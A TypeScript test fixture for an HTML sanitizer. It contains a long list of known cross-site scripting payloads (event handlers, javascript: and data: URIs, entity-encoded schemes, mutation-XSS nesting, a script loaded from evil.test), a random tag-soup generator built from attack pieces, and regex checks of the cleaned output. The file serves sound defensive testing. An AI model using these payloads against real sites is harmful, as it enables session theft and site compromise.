// Hostile HTML for the cleaner's tests: known attack vectors, a generator of random tag soup built from the
// pieces such attacks are made of, and checks of the cleaner's output that do not use the cleaner's own tokenizer.
import fc from 'fast-check';

/** Payloads seen in the wild or in sanitizer bug reports; each calls __hit() if anything in it ever runs. */
export const VECTORS: string[] = [
  '<script>__hit()</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>__hit()</scr</script>ipt>',
  '<img src=x onerror=__hit()>',
  '<img src="https://ok.test/a.png" onerror="__hit()">',
  '<IMG SRC="javascript:__hit();">',
  '<img src=`javascript:__hit()`>',
  '<img """><script>__hit()</script>">',
  '<img src=x:y onerror\t=\t__hit()>',
  '<img/src=x/onerror=__hit()>',
  '<a href="javascript:__hit()">x</a>',
  '<a href="JaVaScRiPt:__hit()">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__hit()">x</a>',
  '<a href="&#x6A;avascript&#x3A;__hit()">x</a>',
  '<a href="java&#x09;script:__hit()">x</a>',
  '<a href="java\nscript:__hit()">x</a>',
  '<a href=" \u0001javascript:__hit()">x</a>',
  '<a href="jav&#x0D;ascript:__hit()">x</a>',
  '<a href="data:text/html,<script>__hit()</script>">x</a>',
  '<a href="vbscript:__hit()">x</a>',
  '<a href=javascript&colon;__hit()>x</a>',
  '<a href="https://ok.test/" onclick="__hit()" onmouseover=__hit()>x</a>',
  '<a href="https://ok.test/"" onclick="__hit()">x</a>',
  "<a href='https://ok.test/' style='behavior:url(x)'>x</a>",
  '<a href="https://ok.test/?a=1&quot; onclick=&quot;__hit()">x</a>',
  '<svg onload=__hit()>',
  '<svg><script>__hit()</script></svg>',
  '<svg><animate onbegin=__hit() attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__hit()>',
  '<iframe src="javascript:__hit()"></iframe>',
  '<iframe srcdoc="<script>parent.__hit()</script>"></iframe>',
  '<object data="javascript:__hit()"></object>',
  '<embed src="javascript:__hit()">',
  '<form action="javascript:__hit()"><button>go</button></form>',
  '<input autofocus onfocus=__hit()>',
  '<details open ontoggle=__hit()>x</details>',
  '<body onload=__hit()>',
  '<video><source onerror=__hit()></video>',
  '<audio src=x onerror=__hit()>',
  '<marquee onstart=__hit()>x</marquee>',
  '<div style="background:url(javascript:__hit())">x</div>',
  '<style>@import "javascript:__hit()";</style>',
  '<link rel=stylesheet href="javascript:__hit()">',
  '<meta http-equiv="refresh" content="0;url=javascript:__hit()">',
  '<base href="javascript:__hit()//">',
  '<noscript><p title="</noscript><img src=x onerror=__hit()>">',
  '<textarea><img src=x onerror=__hit()></textarea>',
  '<title><img src=x onerror=__hit()></title>',
  '<xmp><img src=x onerror=__hit()></xmp>',
  '<template><img src=x onerror=__hit()></template>',
  '<!--<img src=x onerror=__hit()>-->',
  '<!--><img src=x onerror=__hit()>-->',
  '<!-- --!><img src=x onerror=__hit()>-->',
  '<![CDATA[<img src=x onerror=__hit()>]]>',
  '<?xml version="1.0"?><img src=x onerror=__hit()>',
  '</p><img src=x onerror=__hit()>',
  '<p title="<img src=x onerror=__hit()>">x</p>',
  '<abbr title="x" onclick="__hit()">y</abbr>',
  '<time datetime="x&quot;onclick=&quot;__hit()">y</time>',
  '<ol start="1" onclick="__hit()"><li>x</li></ol>',
  '<td colspan="1 onclick=__hit()">x</td>',
  '<a href="https://ok.test/">x<a href="javascript:__hit()">y</a></a>',
  '<img src="https://ok.test/a.png" alt="x" title=`y` onload="__hit()"',
  '<a href="https://ok.test/',
  '<plaintext><img src=x onerror=__hit()>',
  '<select><option><img src=x onerror=__hit()></option></select>',
  '<frameset onload=__hit()>',
  '<isindex action="javascript:__hit()" type=image>',
  '<x onclick=__hit()>click</x>',
  '<a href="\u0000javascript:__hit()">x</a>',
  '<a href="https://ok.test/"\u0000onclick=__hit()>x</a>',
  '<img src="https://ok.test/a.png"\u000conerror=__hit()>',
  '<<img src=x onerror=__hit()>>',
  '<a href="//evil.test/">protocol-relative</a>',
  '<a href="/relative?x=1&y=2">relative</a>',
  '<a href="mailto:hi@ok.test">mail</a>',
];

/** Pieces attacks are made of; random sequences of them make tag soup. */
const PIECES = [
  '<', '>', '/>', '</', '<!--', '-->', '--!>', '<!', '<?', ']]>', '<![CDATA[', '"', "'", '`', '=', ' ', '\t', '\n', '\u0000',
  '&', '&#', '&#x', ';', '&lt;', '&gt;', '&quot;', '&amp;', '&#106;', '&#x09;', '&colon;', 'x', 'text', 'é', '\u202e',
  'script', 'SCRIPT', 'style', 'svg', 'math', 'img', 'a', 'p', 'li', 'ul', 'table', 'tr', 'td', 'b', 'iframe', 'title',
  'textarea', 'noscript', 'template', 'object', 'select', 'plaintext', 'section', 'div', 'h2', 'pre', 'br', 'hr',
  ' href=', ' src=', ' onerror=', ' onclick=', ' style=', ' title=', ' alt=', ' srcdoc=', ' colspan=',
  'javascript:', 'JaVaScRiPt:', 'data:text/html,', 'vbscript:', 'https://ok.test/', '//evil.test/', 'mailto:a@ok.test',
  '__hit()', '<script>__hit()</script>', '<img src=x onerror=__hit()>', '<a href="javascript:__hit()">', '<svg onload=__hit()>',
  '<p>', '</p>', '<a href="https://ok.test/">', '</a>', '<li>', '<table><tr><td>', '</td></tr></table>', '<b><i>', '</b></i>',
];

/** Random tag soup made of attack pieces. */
export const tagSoup = (maxPieces = 40): fc.Arbitrary<string> =>
  fc.array(fc.constantFrom(...PIECES), { maxLength: maxPieces }).map((parts) => parts.join(''));

/** What the cleaner may write: tag → attributes it may carry. */
export const ALLOWED: Record<string, string[]> = {
  a: ['href', 'title', 'rel'], abbr: ['title'], b: [], blockquote: [], br: [], caption: [], cite: [], code: [], dd: [],
  del: [], dfn: [], div: [], dl: [], dt: [], em: [], figcaption: [], figure: [], h1: [], h2: [], h3: [], h4: [], h5: [],
  h6: [], hr: [], i: [], img: ['src', 'alt', 'title', 'width', 'height'], ins: [], kbd: [], li: [], mark: [], ol: ['start'],
  p: [], pre: [], q: [], s: [], samp: [], small: [], span: [], strike: [], strong: [], sub: [], sup: [], table: [],
  tbody: [], td: ['colspan', 'rowspan'], tfoot: [], th: ['colspan', 'rowspan', 'scope'], thead: [], time: ['datetime'],
  tr: [], u: [], ul: [], var: [],
};
const VOIDS = new Set(['br', 'hr', 'img']);

/**
 * Checks that html is in the cleaner's canonical form, read with one regular expression rather than the cleaner's
 * tokenizer: text without '<', allowed tags with allowed attributes in double quotes holding no '"', '<' or '>',
 * every tag but br, hr and img closed in order, links http(s) or mailto, images http(s). Returns the
 * problems found (none: an empty list).
 */
export function canonicalProblems(html: string): string[] {
  const problems: string[] = [];
  const stack: string[] = [];
  const token = /<(\/?)([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)( \/)?>|([^<]+)|(<)/gy;
  let m: RegExpExecArray | null;
  while ((m = token.exec(html))) {
    const [, slash, name, attrs, selfClose, text, strayLt] = m;
    if (text !== undefined) continue;
    if (strayLt !== undefined) {
      problems.push(`a '<' that starts no canonical tag at ${m.index}: ${html.slice(m.index, m.index + 40)}`);
      break;
    }
    const tag = name!;
    if (!Object.prototype.hasOwnProperty.call(ALLOWED, tag)) problems.push(`tag ${tag}`);
    if (slash) {
      if (attrs || selfClose) problems.push(`end tag with attributes: ${m[0]}`);
      if (stack.pop() !== tag) problems.push(`end tag ${tag} out of order`);
      continue;
    }
    if (selfClose) problems.push(`self-closing syntax: ${m[0]}`);
    if (!VOIDS.has(tag)) stack.push(tag);
    for (const a of attrs!.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      const [, attr, value] = a;
      if (!ALLOWED[tag]?.includes(attr!)) problems.push(`attribute ${attr} on ${tag}`);
      if (attr === 'href' && !/^(https?:\/\/[^\s]|mailto:)/.test(value!)) problems.push(`href ${value}`);
      if (attr === 'src' && !/^https?:\/\/[^\s]/.test(value!)) problems.push(`src ${value}`);
    }
  }
  if (stack.length) problems.push(`left open: ${stack.join(',')}`);
  return problems;
}

const TEXT_BREAKS = new Set(['p', 'div', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'pre', 'tr', 'table', 'ul', 'ol', 'dl', 'dd', 'dt', 'figure', 'figcaption', 'br', 'hr']);

/** The plain text a reader sees in canonical cleaned HTML, by regular expressions: the reference for the cleaner's text. */
export function referenceText(html: string, decode: (s: string) => string): string {
  const s = html.replace(/<(\/?)([a-zA-Z][a-zA-Z0-9]*)[^>]*>|<[^>]*>/g, (_m, close: string | undefined, name: string | undefined) => {
    if (!name) return '';
    const n = name.toLowerCase();
    if (n === 'li') return close ? '' : '\n• ';
    return (close || n === 'br' || n === 'hr') && TEXT_BREAKS.has(n) ? '\n' : '';
  });
  // eslint-disable-next-line no-control-regex
  const invisible = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u206f\ufeff\ufff9-\ufffb]/g;
  return decode(s).replace(invisible, '').replace(/[^\S\n]+/g, ' ').replace(/ ?\n[\s]*/g, '\n').trim();
}
